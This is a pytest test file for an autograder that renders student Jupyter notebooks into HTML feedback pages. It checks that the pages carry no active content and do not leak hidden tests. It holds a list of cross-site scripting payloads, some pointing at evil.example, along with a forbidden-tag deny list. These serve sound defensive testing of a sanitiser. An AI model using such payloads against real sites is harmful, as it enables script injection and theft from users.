"""Feedback pages: nothing runs in them, nothing hidden is in them, and they say what helps."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from foreign import course, fake
from nbformat import NotebookNode, read
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.grading import feedback
from autograder.grading.classroom import open_course
from autograder.grading.feedback import render, sanitise, write_feedback
from autograder.grading.grade import grade_class
from autograder.grading.job import Outcome, Result, Usage
from autograder.grading.record import Finished


class Page(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text += data

    def assert_harmless(self) -> None:
        forbidden = {"script", "iframe", "object", "embed", "form", "input", "button", "base", "svg", "math", "link"}
        for tag, attributes in self.tags:
            assert tag not in forbidden, tag
            if tag == "meta":
                assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
            for name, value in attributes.items():
                assert not name.startswith("on"), f"{tag} {name}"
                plain = "".join(value.split()).lower()
                assert "javascript:" not in plain and "vbscript:" not in plain, value
                if name == "src":
                    assert plain.startswith("data:image/"), value
                if name == "href":
                    assert plain.startswith(("#", "http://", "https://", "mailto:")), value
                if name == "style":
                    assert "url(" not in plain and "position" not in plain, value
        (policy,) = [a["content"] for tag, a in self.tags if tag == "meta" and "content" in a and "http-equiv" in a]
        assert policy.startswith("default-src 'none'")


@pytest.fixture
def graded(graded_course):
    return open_course(graded_course)


def notebook_of(opened, student: str, name: str = "problem1") -> NotebookNode:
    return read(opened.path("autograded", student, "ps1") / f"{name}.ipynb", as_version=4)


def page(opened, student: str, notebook: NotebookNode | None = None, **changes) -> str:
    """The page of problem1, rendered from a changed notebook or with a changed result."""
    lesson = opened.lesson("ps1")
    result = replace(Result(student, "ps1", "done"), **{k: v for k, v in changes.items() if k != "repairs"})
    finished = Finished("k", student, "ps1", "problem1", result, changes.get("repairs", ()))
    notebook = notebook or notebook_of(opened, student)
    return render(opened, lesson, lesson.notebooks["problem1"], student, notebook, finished)


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<form action=//evil.example><input name=a><button>go</button></form>",
    "<div style='position:fixed;top:0;background:url(//evil.example)'>x</div>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "</main></body></html><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "$\\href{javascript:alert(1)}{x}$",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "{{ 7*7 }}{% raw %}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_notebook_runs(graded, text):
    notebook = notebook_of(graded, "all_right")
    data = {kind: text for kind in ("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml")}
    kinds = ("image/png", "image/jpeg", "application/javascript", "application/vnd.jupyter.widget-view+json")
    outputs = [new_output("display_data", data={kind: value}) for kind, value in data.items()]
    outputs += [new_output("display_data", data={kind: text}) for kind in kinds]
    outputs += [new_output("display_data", data={"text/html": text}, metadata={"text/html": {"isolated": True}})]
    outputs += [new_output("stream", name="stderr", text=text)]
    outputs += [new_output("error", ename=text, evalue=text, traceback=[text, text])]
    code = new_code_cell(text, outputs=outputs)
    code.metadata["tags"] = [text]
    notebook.cells += [new_markdown_cell(text), code]
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why":
            cell.source = text
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": text}}
    notebook.metadata["title"] = text
    outcomes = (Outcome("test_squares", False, error=text, message=text, hint=text),)
    html = page(graded, "all_right", notebook, outcomes=outcomes, repairs=(text,), limits_hit=(text,))
    Page(html).assert_harmless()
    assert html.count("<body>") == html.count("</body>") == 1


def test_a_hostile_student_id(copy_course):
    folder, student = copy_course("course"), "<img src=x onerror=alert(1)>"
    course.submit(folder, student, "problem1", course.answered(course.released(folder, "problem1"), course.RIGHT))
    grade_class(folder, "ps1", run=fake.run, jobs=1)
    (path,) = write_feedback(folder, "ps1")
    found = Page(path.read_text())
    found.assert_harmless()
    assert student in found.text and not any(tag == "img" for tag, _ in found.tags)


def test_sanitise_drops_scripts_with_their_text():
    assert sanitise("<b>x</b><script>1</script>") == "<b>x</b>"


def test_pictures_tables_and_links_stay(graded):
    notebook = notebook_of(graded, "all_right")
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    html = "<table><tr><td style='color: red' colspan='2'>1</td></tr></table><a href='https://pytorch.org'>t</a>"
    outputs = [
        new_output("display_data", data={"image/png": png}),
        new_output("display_data", data={"text/html": html}),
        new_output("display_data", data={"image/svg+xml": "<svg><script>alert(1)</script></svg>"}),
    ]
    notebook.cells.append(new_code_cell("plot()", outputs=outputs))
    found = Page(page(graded, "all_right", notebook))
    found.assert_harmless()
    sources = [attributes["src"] for tag, attributes in found.tags if tag == "img"]
    assert any(source.startswith("data:image/png;base64,iVBOR") for source in sources)
    assert any(source.startswith("data:image/svg+xml;base64,") for source in sources)
    assert ("td", {"style": "color:red", "colspan": "2"}) in found.tags
    assert any(attributes.get("href") == "https://pytorch.org" for _, attributes in found.tags)


def test_hidden_tests_stay_hidden(graded):
    for student in course.HONEST:
        html = page(graded, student)
        assert "SECRET" not in html and "HIDDEN" not in html and "squares(0)" not in html
        assert "squares(3)" in Page(html).text, "what the student can read is there"


HIDDEN = Outcome("test_squares", False, error="AssertionError", message="SECRET: expected [1, 4], got [7]")
HINTED = Outcome("test_squares", False, error="CheckFailed", message="use n + 1\ngot 7, expected 42", hint="use n + 1")


def first_row(html: str) -> str:
    return html[html.index("<table>") :].split("</tr>")[1]


@pytest.mark.parametrize(
    ("outcome", "traceback", "row", "shown"),
    [
        # The cell: line 1 and 2 are released, 3 to 5 are the hidden region.
        (HIDDEN, [], "AssertionError in a hidden test", False),
        (HIDDEN, ['  File "<test test_squares>", line 4, in <module>'], "AssertionError in a hidden test", False),
        (HIDDEN, ['  File "<test test_squares>", line 2, in <module>'], "AssertionError: SECRET: expected", True),
        (HIDDEN, ["Error", '  File "<test test_squares>", line 2, in <module>'], "in a hidden test", False),
        (HINTED, [], "use n + 1", False),
        (HINTED, ['  File "<test test_squares>", line 4, in <module>'], "use n + 1", False),
        (HINTED, ['  File "<test test_squares>", line 1, in <module>'], "use n + 1", True),
    ],
)
def test_what_a_failed_test_says(graded, outcome, traceback, row, shown):
    notebook = notebook_of(graded, "only_public")
    (cell,) = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_squares"]
    error = new_output("error", ename=outcome.error, evalue=outcome.message, traceback=[*traceback, outcome.message])
    cell.outputs = [new_output("stream", text="SECRET print"), error]
    html = page(graded, "only_public", notebook, outcomes=(outcome,))
    assert row in first_row(html)
    assert ("expected" in html) == shown
    assert "SECRET print" not in html


def test_a_hint_that_stands_in_the_released_part_is_shown_with_its_values(graded):
    """Our own checks leave no line number: then the text of the hint says where the check stands."""
    master = "expect(a, hint='too long')\n### BEGIN HIDDEN TESTS\nexpect(b, hint='too short')\n### END HIDDEN TESTS"
    hidden = feedback._hidden_lines(master, "expect(a, hint='too long')", ("BEGIN HIDDEN", "END HIDDEN"))
    assert hidden == {2, 3, 4}
    for hint, open_ in (("too long", True), ("too short", False), ("wrong shape", False), ("", False)):
        assert feedback._failed_in_the_open(Outcome("t", False, hint=hint), [], master, hidden) is open_
    both = master.replace("too short", "too long")
    assert not feedback._failed_in_the_open(Outcome("t", False, hint="too long"), [], both, hidden)


def test_a_failure_of_a_test_without_hidden_parts_is_shown_in_full(graded):
    html = page(graded, "raises", outcomes=(Outcome("test_unit", False, error="ValueError", message="not today"),))
    assert "ValueError: not today" in html


def test_the_head_of_the_page(graded):
    html = page(
        graded,
        "partly",
        outcomes=(Outcome("test_squares", True), Outcome("test_unit", True, credit=3.0)),
        repairs=("The test cell test_unit was missing; it was put back.",),
        limits_hit=("A cell ran longer than 30 s.",),
        usage=Usage(cells_cpu=1.25, calls_cpu=0.5, wall=3.0, peak_memory_mb=120.4),
    )
    text = Page(html).text
    assert "5 of 12 points" in text
    assert "test_unit3 / 4correct in part" in text
    assert "The test cell test_unit was missing; it was put back." in text
    assert "A cell ran longer than 30 s." in text
    assert "used 1.8 s of processor time, the whole run took 3.0 s; at most 120 MB" in text
    assert "graded by hand" in text


def test_pages_of_a_class(graded):
    pages = write_feedback(graded, "ps1")
    assert len(pages) == 15 and all(path.suffix == ".html" for path in pages)
    assert graded.root / "feedback" / "blank" / "ps1" / "problem2.html" in pages
    for path in pages:
        Page(path.read_text()).assert_harmless()
    assert "not written" not in pages[0].read_text()
    assert write_feedback(graded, "ps1", only=["blank"]) == [p for p in pages if "/blank/" in str(p)]


def test_processes_give_the_same_pages(graded):
    before = {path: path.read_text() for path in write_feedback(graded, "ps1")}
    after = {path: path.read_text() for path in write_feedback(graded, "ps1", jobs=2)}
    assert before == after


def test_what_nbgrader_graded_gets_feedback_too(graded_by_nbgrader, tmp_path):
    import shutil

    opened = open_course(shutil.copytree(graded_by_nbgrader, tmp_path / "course"))
    pages = write_feedback(opened, "ps1", only=["only_public", "raises"])
    assert len(pages) == 4
    text = pages[0].read_text()
    assert "AssertionError in a hidden test" in text and "SECRET" not in text
    assert "ValueError" in pages[2].read_text()


def test_comments_of_a_human_are_shown(graded):
    from nbgrader.api import Gradebook

    with Gradebook(graded.coursedir.db_url) as book:
        book.find_comment("why", "problem1", "ps1", "all_right").manual_comment = "Well *argued*. <script>x</script>"
        grade = book.find_grade("why", "problem1", "ps1", "all_right")
        grade.manual_score, grade.needs_manual_grade = 3, False
        book.db.commit()
    html = page(graded, "all_right")
    Page(html).assert_harmless()
    assert "<em>argued</em>" in html and "9 of 12 points" in Page(html).text


@pytest.mark.parametrize("text", ["<div>" * 15_000, "[" * 9_000, "> " * 4_000, "*a " * 3_000, "<b>" * 30_000])
def test_content_made_to_break_a_renderer(graded, text):
    notebook = notebook_of(graded, "all_right")
    notebook.cells.append(new_markdown_cell(text))
    notebook.cells.append(new_code_cell("x", outputs=[new_output("display_data", data={"text/html": text})]))
    html = page(graded, "all_right", notebook)
    Page(html).assert_harmless()


def test_when_rendering_fails_the_page_is_plain(graded, monkeypatch):
    calls = []
    original = feedback._cells_html

    def fails_once(notebook, resources):
        calls.append(1)
        if len(calls) == 1:
            raise RecursionError
        return original(notebook, resources)

    monkeypatch.setattr(feedback, "_cells_html", fails_once)
    notebook = notebook_of(graded, "all_right")
    notebook.cells.append(new_markdown_cell("**bold**\n```\ncode\n```"))
    html = page(graded, "all_right", notebook)
    assert "**bold**" in html and len(calls) == 2


def test_what_is_too_long_is_cut(graded):
    notebook = notebook_of(graded, "all_right")
    notebook.cells += [new_code_cell("x = 1\n" * 20_000), new_markdown_cell("*a*\n\n" * 3_000)]
    output = new_output("display_data", data={"text/html": "<i>y</i>" * 20_000, "text/plain": "in place of it"})
    notebook.cells.append(new_code_cell("y", outputs=[output]))
    html = page(graded, "all_right", notebook)
    assert "(70,000 characters more)" in Page(html).text
    assert "<em>a</em>" not in html, "shown as it was typed"
    assert "in place of it" in html and "<i>y</i>" not in html
